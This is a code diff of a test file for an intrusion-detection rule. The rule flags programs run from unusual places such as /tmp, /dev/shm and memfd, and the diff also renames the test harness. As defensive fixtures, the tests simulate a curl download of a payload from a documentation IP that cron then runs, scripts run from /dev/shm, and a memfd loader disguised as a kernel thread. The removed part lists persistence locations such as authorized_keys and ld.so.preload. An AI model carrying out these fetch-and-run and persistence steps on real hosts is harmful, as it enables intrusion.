@@ -1,10 +1,9 @@
 import { describe, expect, it } from 'vitest';
-import { Stage } from '../../../test/stage.ts';
-import { oddPlace, persistence } from '../places.ts';
+import { Machine } from '../../../test/machine.ts';
 import { make, tryOut } from '../testing.ts';
 import { oddExecPlace } from './behaviour.ts';
 
-const stage = (settings: Record<string, string[]> = {}): Stage => new Stage(oddExecPlace, settings);
+const stage = (settings: Record<string, string[]> = {}): Machine => new Machine(oddExecPlace, { settings });
 
 describe('a program in an odd place', () => {
   it.each([
@@ -13,8 +12,8 @@ describe('a program in an odd place', () => {
     ['/etc/.config-x/y', 'critical', 'high', 'medium'], ['/root/.systemd-private/y', 'critical', 'high', 'low'], ['/home/wang/.fly/bin/flyctl', 'critical', undefined, undefined],
     ['/tmp/x (deleted)', 'critical', 'critical', 'high'],
   ])('%s is judged by its origin: web, cron, a log-on', (path, web, cron, login) => {
-    const origins: ((s: Stage) => number)[] = [(s) => s.phpWorker(), (s) => s.cronJob('/opt/job'), (s) => s.login()];
-    const told = origins.map((begin) => { const s = stage(); s.spawn(begin(s), path); return s.levels()[0]; });
+    const origins: ((s: Machine) => number)[] = [(s) => s.worker(), (s) => s.cron('/opt/job'), (s) => s.login()];
+    const told = origins.map((begin) => { const s = stage(); s.spawn(begin(s), path); return s.levels[0]; });
     expect(told).toEqual([web, cron, login]);
   });
 
@@ -22,22 +21,22 @@ describe('a program in an odd place', () => {
     const s = stage();
     const shell = s.login();
     s.spawn(shell, '/usr/bin/bash', 'bash /dev/shm/x.sh');
-    s.spawn(shell, '/usr/bin/python3.11', 'python3 -u .z/x.py', {}, { process_cwd: '/tmp' });
+    s.spawn(shell, '/usr/bin/python3.11', 'python3 -u .z/x.py', { process_cwd: '/tmp' });
     s.spawn(shell, '/usr/bin/bash', 'bash /tmp/install.sh');
     s.spawn(shell, '/usr/bin/bash', 'bash /dev/fd/63');
-    expect(s.levels()).toEqual(['high', 'high']);
+    expect(s.levels).toEqual(['high', 'high']);
   });
 
   it('is told once in ten minutes, with who wrote it', () => {
     const s = stage();
-    const curl = s.spawn(s.cronJob('x'), '/usr/bin/curl', 'curl -o /tmp/x http://198.51.100.7/x');
-    s.write(curl, '/tmp/x', 'create');
-    for (let i = 0; i < 5; i++) s.spawn(s.cronJob('x'), '/tmp/x');
-    expect(s.levels()).toEqual(['high']);
+    const curl = s.spawn(s.cron('x'), '/usr/bin/curl', 'curl -o /tmp/x http://198.51.100.7/x');
+    s.file(curl, 'create', '/tmp/x');
+    for (let i = 0; i < 5; i++) s.spawn(s.cron('x'), '/tmp/x');
+    expect(s.levels).toEqual(['high']);
     expect(s.found[0]?.group).toMatchObject({ writer: `/usr/bin/curl[${curl}]` });
     s.later(601_000);
-    s.spawn(s.cronJob('x'), '/tmp/x');
-    expect(s.levels()).toHaveLength(2);
+    s.spawn(s.cron('x'), '/tmp/x');
+    expect(s.levels).toHaveLength(2);
   });
 });
 
@@ -45,19 +44,19 @@ describe('memory', () => {
   it('a loader of an interpreter or unknown program', () => {
     const s = stage();
     const python = s.spawn(s.login(), '/usr/bin/python3.11', 'python3 -c import os;…');
-    s.exec(python, '/memfd:x (deleted)', '[kworker/0:1]', { memfd: 'true' });
-    expect(s.levels()).toEqual(['critical']);
+    s.exec(python, '/memfd:x (deleted)', '[kworker/0:1]', { extra: { memfd: 'true' } });
+    expect(s.levels).toEqual(['critical']);
     const t = stage();
-    t.exec(t.spawn(t.phpWorker(), '/var/www/loader'), '/proc/self/fd/3', 'x');
-    expect(t.levels()).toEqual(['critical']);
+    t.exec(t.spawn(t.worker(), '/var/www/loader'), '/proc/self/fd/3', 'x');
+    expect(t.levels).toEqual(['critical']);
   });
 
   it('a container runtime that copies itself', () => {
     const s = stage();
-    const shim = s.seen(400, 1, '/usr/bin/containerd-shim-runc-v2', 'containerd-shim');
+    const shim = s.seen('/usr/bin/containerd-shim-runc-v2', 'containerd-shim', { pid: 400 });
     const runc = s.spawn(shim, '/usr/sbin/runc', 'runc init');
-    s.exec(runc, '/memfd:runc_cloned:/proc/self/exe (deleted)', 'runc init', { memfd: 'true' });
-    expect(s.levels()).toEqual([]);
+    s.exec(runc, '/memfd:runc_cloned:/proc/self/exe (deleted)', 'runc init', { extra: { memfd: 'true' } });
+    expect(s.levels).toEqual([]);
   });
 });
 
@@ -80,14 +79,4 @@ it('without a lineage it judges by the place alone', () => {
   run.observe(make('process_creation', 1, { action: 'process-start', process_path: '/tmp/x', process_cmdline: 'x' }));
   run.observe(make('process_creation', 2, { action: 'process-seen', process_path: '/tmp/y', process_cmdline: 'y' }));
   expect(found.map((d) => d.level)).toEqual(['high']);
-});
-
-it('places are told by their path', () => {
-  const odd = ['/tmp/x', '/var/tmp/a/b', '/dev/shm/x', '/memfd:x', '/proc/7/fd/3', '/etc/.x/y', '/usr/lib/.z', '/home/a/.x', '/srv/x (deleted)', '/var/www/.git2/x', '/opt/.../x'];
-  expect(odd.filter((path) => oddPlace(path) === undefined)).toEqual([]);
-  const plain = ['/usr/bin/x', '/usr/bin/x (deleted)', '/opt/app/bin/x', '/srv/app/x', '/home/a/.nvm/versions/node/v20/bin/node', '/home/a/p/node_modules/.bin/x', '/root/.local/share/x', '/home/a/.cache/ms-playwright/x/chrome', '/proc/self/exe', '/tmp', ''];
-  expect(plain.filter((path) => oddPlace(path) !== undefined)).toEqual([]);
-  expect(oddPlace('/home/a/.x/.cargo/bin/y')).toBe('hidden');
-  expect(['/etc/cron.d/x', '/var/spool/cron/crontabs/root', '/etc/systemd/system/x.service', '/root/.ssh/authorized_keys', '/home/a/.bashrc', '/etc/ld.so.preload', '/etc/profile.d/x.sh', '/home/a/.config/systemd/user/x.service', '/lib/systemd/system/x.timer', '/etc/sudoers.d/x', '/etc/udev/rules.d/1.rules'].map(persistence)).toEqual(['cron', 'cron', 'systemd', 'ssh', 'login', 'loader', 'login', 'systemd', 'systemd', 'auth', 'udev']);
-  expect(['/etc/hosts', '/home/a/.ssh/known_hosts', '/etc/ssh/ssh_host_key', '/etc/resolv.conf', '/etc/ld.so.cache', '/var/spool/postfix/x', 'x', '/tmp/.bashrc', '/etc/systemd/system/a.service.wants'].map(persistence).filter((x) => x !== undefined)).toEqual([]);
 });
